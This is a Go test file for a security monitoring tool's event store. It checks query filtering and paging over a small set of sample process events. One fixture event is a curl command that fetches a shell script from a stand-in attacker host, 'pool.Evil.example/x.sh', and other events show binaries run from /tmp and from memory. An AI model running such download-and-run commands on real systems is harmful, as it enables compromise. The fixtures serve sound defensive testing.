package storetest

import (
	"fmt"
	"slices"
	"strings"
	"time"

	"github.com/castellan-security/castellan/internal/event"
	"github.com/castellan-security/castellan/internal/fault"
	"github.com/castellan-security/castellan/internal/store"
)

// scene is a small world, one event a line; a query's answer is named by
// sequence numbers, newest first.
func scene() []event.Event {
	as := func(kind event.Kind) func(*event.Event) {
		return func(e *event.Event) {
			e.Kind, e.Exec = kind, nil
			if kind == event.KindExit {
				e.Exit = &event.Exit{}
			}
		}
	}
	run := func(path string, args ...string) func(*event.Event) {
		return func(e *event.Event) {
			e.Process.Executable = path
			e.Process.Name = path[strings.LastIndex(path, "/")+1:]
			e.Exec.Args = args
		}
	}
	in := func(workload, group string) func(*event.Event) {
		return func(e *event.Event) { e.WorkloadID, e.Group = workload, group }
	}
	from := func(o event.Origin) func(*event.Event) { return func(e *event.Event) { e.Exec.Origin = o } }
	entered := func(e *event.Event) { e.Exec.Entered = true }
	pid := func(n uint32) func(*event.Event) {
		return func(e *event.Event) { e.Process.Key = event.Key{PID: n, Start: 77} }
	}
	return []event.Event{
		exec(1, as(event.KindFork), pid(50)),
		exec(2, run("/usr/bin/curl", "curl", "-s", "http://pool.Evil.example/x.sh"), pid(50)),
		exec(3, as(event.KindExit), pid(50)),
		exec(4, run("/usr/bin/python3.11", "python3", "app.py"), in("w2", "prod/shop/api")),
		exec(5, run("/tmp/x", "./x"), in("w2", "prod/shop/api"), from(event.OriginWritten)),
		exec(6, run("/bin/bash", "bash"), entered),
		exec(7, run("/memfd:a", "a"), from(event.OriginMemory), in("w3", "prod/db/db")),
		exec(8, run("/usr/sbin/sshd", "sshd", "-D"), in("", ""), from(event.OriginHost)),
		exec(9, run("/data/run", "run"), from(event.OriginMount)),
		exec(10, run("/opt/app", "app"), from(event.OriginUnknown)),
	}
}

// question is a query of the scene and its answer.
type question struct {
	name string
	q    store.EventQuery
	want []uint64
}

func fieldQuestions() []question {
	return []question{
		{"no filter", store.EventQuery{}, []uint64{10, 9, 8, 7, 6, 5, 4, 3, 2, 1}},
		{"kind", store.EventQuery{Kinds: []event.Kind{event.KindFork}}, []uint64{1}},
		{"kinds", store.EventQuery{Kinds: []event.Kind{event.KindFork, event.KindExit}}, []uint64{3, 1}},
		{"unknown kind", store.EventQuery{Kinds: []event.Kind{"file.open"}}, nil},
		{"known and unknown kind", store.EventQuery{Kinds: []event.Kind{"file.open", event.KindExit}}, []uint64{3}},
		{"agent", store.EventQuery{AgentID: agentA, Limit: 2}, []uint64{10, 9}},
		{"unknown agent", store.EventQuery{AgentID: "?"}, nil},
		{"workload", store.EventQuery{WorkloadID: "w2"}, []uint64{5, 4}},
		{"unknown workload", store.EventQuery{WorkloadID: "w"}, nil},
		{"group", store.EventQuery{Group: "prod/db/db"}, []uint64{7}},
		{"host only", store.EventQuery{HostOnly: true}, []uint64{8}},
		{"host only in a workload", store.EventQuery{HostOnly: true, WorkloadID: "w1"}, nil},
		{"executable", store.EventQuery{Executable: "/tmp/x"}, []uint64{5}},
		{"beginning of an executable", store.EventQuery{Executable: "/usr/*"}, []uint64{8, 4, 2}},
		{"beginning inside a name", store.EventQuery{Executable: "/usr/bin/py*"}, []uint64{4}},
		{"beginning of none", store.EventQuery{Executable: "/sys/*"}, nil},
		{"any executable", store.EventQuery{Executable: "*", Limit: 1}, []uint64{10}},
		{"a star elsewhere is a star", store.EventQuery{Executable: "/*/curl"}, nil},
		{"process", store.EventQuery{AgentID: agentA, Process: event.Key{PID: 50, Start: 77}}, []uint64{3, 2, 1}},
		{"process of another agent", store.EventQuery{AgentID: agentB, Process: event.Key{PID: 50, Start: 77}}, nil},
		{"pid used again", store.EventQuery{AgentID: agentA, Process: event.Key{PID: 50, Start: 78}}, nil},
		{"process and kind", store.EventQuery{AgentID: agentA, Process: event.Key{PID: 50, Start: 77}, Kinds: []event.Kind{event.KindExec}}, []uint64{2}},
		{"origin", store.EventQuery{Origins: []event.Origin{event.OriginWritten}}, []uint64{5}},
		{"origins", store.EventQuery{Origins: []event.Origin{event.OriginMount, event.OriginMemory}}, []uint64{9, 7}},
		{"unknown origin is of execs", store.EventQuery{Origins: []event.Origin{event.OriginUnknown}}, []uint64{10}},
		{"entered", store.EventQuery{Entered: true}, []uint64{6}},
		{"entered elsewhere", store.EventQuery{Entered: true, WorkloadID: "w2"}, nil},
	}
}

func timeAndTextQuestions() []question {
	at := func(seq int) time.Time { return base().Add(time.Duration(seq) * time.Second) }
	return []question{
		{"since is inclusive", store.EventQuery{Since: at(9)}, []uint64{10, 9}},
		{"until is exclusive", store.EventQuery{Until: at(3)}, []uint64{2, 1}},
		{"span", store.EventQuery{Since: at(4), Until: at(6)}, []uint64{5, 4}},
		{"span of nothing", store.EventQuery{Since: at(100)}, nil},
		{"span and kind", store.EventQuery{Until: at(4), Kinds: []event.Kind{event.KindExec}}, []uint64{2}},
		{"word of an executable", store.EventQuery{Text: "python3"}, []uint64{4}},
		{"word of an argument", store.EventQuery{Text: "pool"}, []uint64{2}},
		{"beginning of a word", store.EventQuery{Text: "pyth"}, []uint64{4}},
		{"not inside a word", store.EventQuery{Text: "ython"}, nil},
		{"case", store.EventQuery{Text: "EVIL"}, []uint64{2}},
		{"all words", store.EventQuery{Text: "curl evil"}, []uint64{2}},
		{"words of different events", store.EventQuery{Text: "curl python3"}, nil},
		{"text with punctuation", store.EventQuery{Text: "http://pool.evil.example/x"}, []uint64{2}},
		{"punctuation matters", store.EventQuery{Text: "pool-evil"}, nil},
		{"text of punctuation", store.EventQuery{Text: "://"}, []uint64{2}},
		{"text and workload", store.EventQuery{Text: "x", WorkloadID: "w2"}, []uint64{5}},
		{"percent is itself", store.EventQuery{Text: "%"}, nil},
		{"text of spaces", store.EventQuery{Text: "  ", Limit: 1}, []uint64{10}},
		{"everything at once", store.EventQuery{
			Kinds: []event.Kind{event.KindExec}, AgentID: agentA, WorkloadID: "w2", Group: "prod/shop/api",
			Executable: "/tmp/*", Origins: []event.Origin{event.OriginWritten}, Text: "x", Since: at(1), Until: at(11),
		}, []uint64{5}},
	}
}

func queryCases() []testCase {
	var cases []testCase
	for _, c := range append(fieldQuestions(), timeAndTextQuestions()...) {
		cases = append(cases, testCase{c.name, func(k *kit) {
			k.ok(k.st.AppendEvents(k.ctx, scene()))
			page, err := k.st.Events(k.ctx, c.q)
			k.ok(err)
			same(k, "events", seqs(page.Events), c.want)
			same(k, "partial", page.Partial, false)
		}})
	}
	return append(cases,
		testCase{"too much is refused", func(k *kit) {
			for _, q := range []store.EventQuery{
				{Text: strings.Repeat("a", 10_000)}, {Text: strings.Repeat("a ", 200)}, {Kinds: make([]event.Kind, 1_000)},
			} {
				_, err := k.st.Events(k.ctx, q)
				k.wantFault(err, fault.Invalid)
			}
		}})
}

func seqs(es []event.Event) []uint64 {
	var s []uint64
	for _, e := range es {
		s = append(s, e.Seq)
	}
	return s
}

func pagingCases() []testCase {
	return []testCase{
		{"limits", limits},
		{"pages are stable while events come in", stablePages},
		{"following", following},
		{"following a filter", followingFilter},
		{"every event once, whatever the filter", everyEventOnce},
		{"ids and not clocks decide", func(k *kit) {
			es := execs(3)
			es[0].Time, es[1].Time, es[2].Time = base().Add(time.Hour), base(), base().Add(-time.Hour)
			k.ok(k.st.AppendEvents(k.ctx, es))
			same(k, "order", seqs(k.all().Events), []uint64{3, 2, 1})
		}},
	}
}

func limits(k *kit) {
	k.ok(k.st.AppendEvents(k.ctx, execs(store.MaxPage+5)))
	for limit, want := range map[int]int{
		-1: store.DefaultPage, 0: store.DefaultPage, 1: 1, store.MaxPage: store.MaxPage, store.MaxPage + 1: store.MaxPage,
	} {
		page, err := k.st.Events(k.ctx, store.EventQuery{Limit: limit})
		k.ok(err)
		same(k, fmt.Sprintf("limit %d", limit), len(page.Events), want)
		same(k, "next", page.Next, page.Events[want-1].ID)
	}
}

func stablePages(k *kit) {
	k.ok(k.st.AppendEvents(k.ctx, execs(25)))
	var got []uint64
	q := store.EventQuery{Limit: 10}
	for n := uint64(26); ; n++ {
		page, err := k.st.Events(k.ctx, q)
		k.ok(err)
		got = append(got, seqs(page.Events)...)
		if page.Next == 0 {
			break
		}
		q.Before = page.Next
		k.ok(k.st.AppendEvents(k.ctx, []event.Event{exec(n)}))
	}
	var want []uint64
	for n := uint64(25); n > 0; n-- {
		want = append(want, n)
	}
	same(k, "events", got, want)
}

func following(k *kit) {
	es := execs(7)
	k.ok(k.st.AppendEvents(k.ctx, es[:3]))
	q := store.EventQuery{After: es[0].ID, Limit: 3}
	page, err := k.st.Events(k.ctx, q)
	k.ok(err)
	same(k, "new", seqs(page.Events), []uint64{2, 3})
	same(k, "next", page.Next, es[2].ID)

	q.After = page.Next
	page, err = k.st.Events(k.ctx, q)
	k.ok(err)
	same(k, "nothing new", seqs(page.Events), nil)
	same(k, "next", page.Next, es[2].ID)

	k.ok(k.st.AppendEvents(k.ctx, es[3:]))
	q.After = page.Next
	page, err = k.st.Events(k.ctx, q)
	k.ok(err)
	same(k, "the oldest of the new", seqs(page.Events), []uint64{4, 5, 6})
	same(k, "next", page.Next, es[5].ID)
}

func followingFilter(k *kit) {
	es := scene()
	k.ok(k.st.AppendEvents(k.ctx, es))
	page, err := k.st.Events(k.ctx, store.EventQuery{After: es[0].ID, WorkloadID: "w2"})
	k.ok(err)
	same(k, "new", seqs(page.Events), []uint64{4, 5})
	if page.Next < es[4].ID || page.Next > es[9].ID {
		k.Errorf("next is %d, want the last that was looked at", page.Next)
	}
	page, err = k.st.Events(k.ctx, store.EventQuery{After: es[0].ID, WorkloadID: "none"})
	k.ok(err)
	if page.Next < es[0].ID {
		k.Errorf("next is %d, before where it began", page.Next)
	}
}

// everyEventOnce pages through filters that match few of many events, in both
// directions, and compares with a filter of its own.
func everyEventOnce(k *kit) {
	const n = 3_000
	es := execs(n)
	for i := range es {
		es[i].WorkloadID = fmt.Sprintf("w%d", i*i%37)
		if i%53 == 0 {
			es[i].Exec.Entered = true
		}
		es[i].Exec.Args = append(es[i].Exec.Args, fmt.Sprintf("word%d", i%11), fmt.Sprintf("id-%d", i))
	}
	for at := 0; at < n; at += 100 {
		k.ok(k.st.AppendEvents(k.ctx, es[at:at+100]))
	}
	for name, c := range map[string]struct {
		q     store.EventQuery
		match func(i int) bool
	}{
		"workload": {store.EventQuery{WorkloadID: "w1"}, func(i int) bool { return i*i%37 == 1 }},
		"entered":  {store.EventQuery{Entered: true}, func(i int) bool { return i%53 == 0 }},
		"word":     {store.EventQuery{Text: "word7"}, func(i int) bool { return i%11 == 7 }},
		"both":     {store.EventQuery{Text: "word7", WorkloadID: "w1"}, func(i int) bool { return i%11 == 7 && i*i%37 == 1 }},
		"number":   {store.EventQuery{Text: "id-2999"}, func(i int) bool { return i == 2999 }},
	} {
		var want []uint64
		for i := range es {
			if c.match(i) {
				want = append(want, es[i].Seq)
			}
		}
		same(k, name, collect(k, c.q), want)
		same(k, name+", following", follow(k, c.q, es[0].ID), slices.DeleteFunc(want, func(s uint64) bool { return s == 1 }))
	}
}

// collect reads all pages of a query, oldest first.
func collect(k *kit, q store.EventQuery) []uint64 {
	k.Helper()
	q.Limit = 7
	var got []uint64
	for {
		page, err := k.st.Events(k.ctx, q)
		k.ok(err)
		got = append(got, seqs(page.Events)...)
		if page.Next == 0 {
			break
		}
		if q.Before != 0 && page.Next >= q.Before {
			k.Fatalf("page after %d goes on at %d", q.Before, page.Next)
		}
		q.Before = page.Next
	}
	slices.Reverse(got)
	return got
}

// follow reads what is newer than an event until nothing comes any more.
func follow(k *kit, q store.EventQuery, after int64) []uint64 {
	k.Helper()
	q.Limit, q.After = 7, after
	var got []uint64
	for {
		page, err := k.st.Events(k.ctx, q)
		k.ok(err)
		got = append(got, seqs(page.Events)...)
		if len(page.Events) == 0 && !page.Partial {
			return got
		}
		if page.Next <= q.After {
			k.Fatalf("page after %d goes on at %d", q.After, page.Next)
		}
		q.After = page.Next
	}
}
